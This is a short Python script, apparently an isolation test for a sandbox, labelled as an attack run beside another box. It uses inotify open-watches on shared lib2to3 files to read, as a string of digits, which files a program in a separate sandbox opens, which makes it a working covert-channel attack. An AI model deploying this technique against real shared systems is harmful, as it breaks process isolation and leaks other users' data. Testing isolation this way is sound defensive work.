# Attack on stdin_stdout (run beside): watches which shared files a program in another box opens.
import ctypes, os, select, struct, time
libc = ctypes.CDLL(None)

fd = libc.inotify_init1(os.O_NONBLOCK)
assert libc.inotify_add_watch(fd, b"/usr/lib/python3.11/lib2to3/pgen2", 0x20) >= 0
names = sorted(os.listdir("/usr/lib/python3.11/lib2to3/fixes"))[:10]
for i, name in enumerate(names):
    assert libc.inotify_add_watch(fd, b"/usr/lib/python3.11/lib2to3/fixes/" + name.encode(), 0x20) == i + 2
text, end = "", time.time() + 2
while time.time() < end and len(text) < 6:
    if select.select([fd], [], [], 0.1)[0]:
        data = os.read(fd, 4096)
        while data:
            watch, _, _, length = struct.unpack_from("iIII", data)
            data = data[16 + length:]
            if watch >= 2:
                text += str(watch - 2)
print(text)
